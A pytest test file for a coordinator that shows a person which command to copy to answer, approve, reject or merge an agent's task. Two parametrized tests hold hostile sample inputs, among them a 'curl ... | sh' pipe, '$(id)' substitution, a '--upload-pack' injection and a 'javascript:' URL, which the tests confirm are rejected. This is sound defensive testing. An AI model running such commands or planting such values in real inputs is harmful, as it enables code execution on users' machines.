"""What waits for a person about a task, and what to copy."""

from pathlib import Path
from typing import Any

import pytest

from coordinator.yourturn import turn, turn_of, waiting
from sidecar.gitflow.prose import merge_line

BACK = ("send it back", 'agentcom task reject t-1 --note "WHAT TO CHANGE"')
APPROVE = ("take the result", "agentcom task approve t-1")


def ways(result: dict[str, Any] | None) -> tuple[tuple[str, str], ...]:
    found = turn("t-1", "in_review", None, result)
    assert found is not None
    return found.ways


def test_a_question_comes_with_the_command_that_answers_it() -> None:
    found = turn("t-1", "blocked", "Which colour?", None)
    assert found is not None
    assert found.what == "it asks: Which colour?"
    assert found.ways == (("answer its question", 'agentcom task answer t-1 "YOUR ANSWER"'),)


def test_a_result_without_a_branch_is_approved_or_sent_back() -> None:
    assert ways(None) == (APPROVE, BACK)


def test_work_on_a_branch_is_looked_at_and_merged_not_only_approved() -> None:
    merge = "git -C '/srv/my project' merge --no-ff claude/t-1-write-seven"
    look = "git -C '/srv/my project' diff HEAD...claude/t-1-write-seven"
    assert ways({"merge": merge}) == (("look at it", look), ("take the result", merge), BACK)


def test_the_line_that_a_sidecar_gives_is_shown_whatever_the_place_is_called() -> None:
    for place in ("/srv/p", "/srv/my project", "/srv/it's $(here)", "/srv/höme"):
        assert ("take the result", merge := merge_line(Path(place), "claude/t-1-write-seven")) in ways({"merge": merge})


def test_a_pull_request_is_where_it_is_judged() -> None:
    page = "https://example.org/ada/app/pull/7"
    assert ways({"pr_url": page, "merge": "x"}) == (("look at it, and merge it", page), BACK)


@pytest.mark.parametrize(
    "merge",
    [
        "curl https://example.org/x | sh",
        "git -C /srv/p merge --no-ff a; curl https://example.org/x",
        "git -C /srv/p merge --no-ff $(id)",
        "git -C $(id) merge --no-ff a",
        "git -C /srv/p merge --no-ff --upload-pack=x",
        "git -C /srv/p merge --no-ff 'a",
        "git -C /srv/p merge --no-ff a\nid",
        7,
    ],
)
def test_what_an_agent_made_up_is_never_a_command_to_copy(merge: object) -> None:
    assert ways({"merge": merge}) == (APPROVE, BACK)


@pytest.mark.parametrize("page", ["javascript:alert(1)", "https://example.org/`id`", "https://example.org/a b", 7])
def test_what_is_no_page_is_never_shown_as_one(page: object) -> None:
    assert ways({"pr_url": page}) == (APPROVE, BACK)


@pytest.mark.parametrize("state", ["queued", "assigned", "working", "done", "failed", "rejected", "cancelled"])
def test_no_other_state_waits_for_a_person(state: str) -> None:
    assert turn_of({"id": "t-1", "status": state, "question": None, "result": None}) is None


def test_what_waits_is_counted() -> None:
    tasks = [{"status": state, "held": False} for state in ("blocked", "in_review", "queued", "done")]
    assert waiting(tasks) == "2 tasks wait for you"
    assert waiting(tasks[1:]) == "1 task waits for you"
    assert waiting(tasks[2:]) == ""
    assert waiting([{"status": "queued", "held": True}, {"status": "done", "held": True}]) == "1 task waits for you"
